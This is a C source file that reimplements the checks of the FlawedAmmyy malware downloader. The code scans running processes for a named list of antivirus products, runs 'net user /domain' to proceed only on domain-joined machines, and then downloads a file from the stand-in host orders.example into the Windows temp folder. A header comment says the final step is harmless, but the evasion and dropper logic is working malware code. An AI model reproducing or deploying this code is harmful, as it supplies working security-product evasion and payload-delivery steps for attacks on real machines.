/* The checks of the FlawedAmmyy downloader, and then something harmless: it goes on only where
 * `net user /domain` does not name a workgroup, and where none of a list of security products runs.
 * Compiled with NEWER it has forgotten some of the list, as the field's newer variant had. */
#include <windows.h>

#include <stdio.h>
#include <string.h>
#include <tlhelp32.h>
#include <wininet.h>

static const char *const products[] = {
    "QHACTIVEDEFENSE.EXE", "QHSAFETRAY.EXE", "QHWATCHDOG.EXE",  "CMDAGENT.EXE", "CIS.EXE",
#ifndef NEWER
    "V3LITE.EXE",          "V3MAIN.EXE",     "V3SP.EXE",
#endif
    "SPIDERAGENT.EXE",     "DWENGINE.EXE",   "DWARKDAEMON.EXE", "EGUI.EXE",     "EKRN.EXE",
};

static int is_product(const char *name) {
    for (unsigned i = 0; i < sizeof products / sizeof *products; i++)
        if (lstrcmpiA(name, products[i]) == 0) return 1;
    return 0;
}

static int product_runs(void) {
    HANDLE all = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    PROCESSENTRY32 one = {.dwSize = sizeof one};
    int found = 0;
    for (BOOL more = Process32First(all, &one); more && !found; more = Process32Next(all, &one))
        found = is_product(one.szExeFile);
    CloseHandle(all);
    return found;
}

/* ---- cmd.exe /c net user /domain ---- */

static int run_and_read(char *command, char *text, DWORD room) {
    SECURITY_ATTRIBUTES inherit = {sizeof inherit, NULL, TRUE};
    HANDLE in, out;
    PROCESS_INFORMATION process;
    if (!CreatePipe(&in, &out, &inherit, 0)) return 0;
    STARTUPINFOA start = {.cb = sizeof start,
                          .dwFlags = STARTF_USESTDHANDLES | STARTF_USESHOWWINDOW,
                          .hStdOutput = out,
                          .hStdError = out};
    if (!CreateProcessA(NULL, command, NULL, NULL, TRUE, 0, NULL, NULL, &start, &process)) return 0;
    CloseHandle(out);
    DWORD n = 0, got;
    while (n < room - 1 && ReadFile(in, text + n, room - 1 - n, &got, NULL) && got) n += got;
    text[n] = 0;
    CloseHandle(in);
    return n != 0;
}

static int is_domain_member(void) {
    static char text[16384], command[] = "cmd.exe /c net user /domain";
    return run_and_read(command, text, sizeof text) && !strstr(text, "WORKGROUP");
}

static void download(void) {
    char path[MAX_PATH], page[4096];
    DWORD n = 0, written;
    HINTERNET net = InternetOpenA("MSDW", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    HINTERNET url = InternetOpenUrlA(net, "http://orders.example/km1.dat", NULL, 0, 0, 0);
    if (url) InternetReadFile(url, page, sizeof page, &n);
    ExpandEnvironmentStringsA("%TEMP%\\wsus.dat", path, sizeof path);
    HANDLE h = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    WriteFile(h, page, n, &written, NULL);
    CloseHandle(h);
}

int main(void) {
    if (product_runs() || !is_domain_member()) return 0;
    download();
    return 0;
}
